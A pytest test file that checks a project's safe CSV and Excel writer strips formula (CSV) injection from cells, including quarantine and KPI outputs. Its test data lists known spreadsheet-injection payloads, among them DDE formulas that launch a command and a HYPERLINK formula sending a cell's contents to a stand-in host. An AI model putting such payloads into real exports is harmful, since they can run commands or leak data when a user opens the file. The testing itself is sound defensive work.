"""The one safe writer for CSV and Excel files (hwb_kpis/safe_files.py): a cell a spreadsheet
would run as a formula is neutralised with a leading apostrophe (OWASP, "CSV injection"); genuine
numbers are left alone; and every CSV the project writes goes through it."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from hwb_kpis.kpis.output import format_kpis
from hwb_kpis.pipeline import run_clean
from hwb_kpis.safe_files import csv_text, neutralise, write_csv, write_excel

ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "+1+1", "\t=1+1", "\r=1+1"]


def test_formula_cells_are_neutralised_and_numbers_kept():
    frame = pd.DataFrame({"text": [*ATTACKS, "-5", "plain", None], "count": [-1, 2, -3, 4, 5, 6, 7, -8, 9, 10],
                          "rate": [-0.5] * 10})
    out = neutralise(frame)
    assert out["text"].tolist()[: len(ATTACKS)] == ["'" + a for a in ATTACKS]
    assert out["text"].tolist()[len(ATTACKS):-1] == ["-5", "plain"] and pd.isna(out["text"].iloc[-1])
    assert out["count"].tolist() == frame["count"].tolist() and out["rate"].tolist() == frame["rate"].tolist()
    assert frame["text"].iloc[0] == ATTACKS[0]  # the caller's frame is not changed


def test_csv_and_excel_files_carry_no_formula(tmp_path):
    frame = pd.DataFrame({"value": ATTACKS, "n": range(len(ATTACKS))})
    write_csv(frame, tmp_path / "out.csv")
    rows = list(csv.DictReader(open(tmp_path / "out.csv", encoding="utf-8", newline="")))
    assert all(r["value"].startswith("'") for r in rows) and [int(r["n"]) for r in rows] == list(range(len(ATTACKS)))
    assert csv_text(frame) == (tmp_path / "out.csv").read_text(encoding="utf-8")
    write_excel({"Sheet =1": frame.assign(n=-frame["n"])}, tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)  # no formula anywhere
    assert [c.value for c in cells if c.column == 2] == [-n for n in range(len(ATTACKS))]  # numbers stay numbers


def test_the_quarantine_written_by_clean_carries_no_formula(tmp_path, monkeypatch):
    # the defect: quarantine.csv copied =cmd|' /C calc'!A0, =HYPERLINK(...), @SUM, -2+3+cmd|... verbatim
    monkeypatch.setenv("HWB_KPIS_PSEUDONYM_KEY", "formula-test-key-0000001")
    raw = tmp_path / "raw"
    raw.mkdir()
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(["contact_id", "child_id", "contact_date", "outcome", "marf"])
    for i, attack in enumerate(ATTACKS[:4]):
        writer.writerow([f"C{i}", f"K{i}", "2015-10-01", attack, "Y"])
    writer.writerow(["C9", "K9", "2015-10-01", "nfa", "=1+1"])
    (raw / "contacts.csv").write_text(buf.getvalue())
    (raw / "looked_after.csv").write_text("child_id,period_start\n")
    run_clean(raw, tmp_path / "out", echo=lambda m: None)
    text = (tmp_path / "out" / "quarantine.csv").read_text()
    for line in list(csv.reader(io.StringIO(text)))[1:]:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in line), line


@pytest.mark.parametrize("internal", [True, False])
def test_the_kpis_csv_goes_through_the_safe_writer(internal):
    table = pd.DataFrame({"kpi": ["=cmd|' /C calc'!A0"], "group": ["all"], "month": ["2015-11"],
                          "numerator": [5], "denominator": [10], "rate": [0.5]})
    text = format_kpis(table, "csv", internal=internal)
    assert "\n'=cmd" in text and ",5,10,0.5" in text
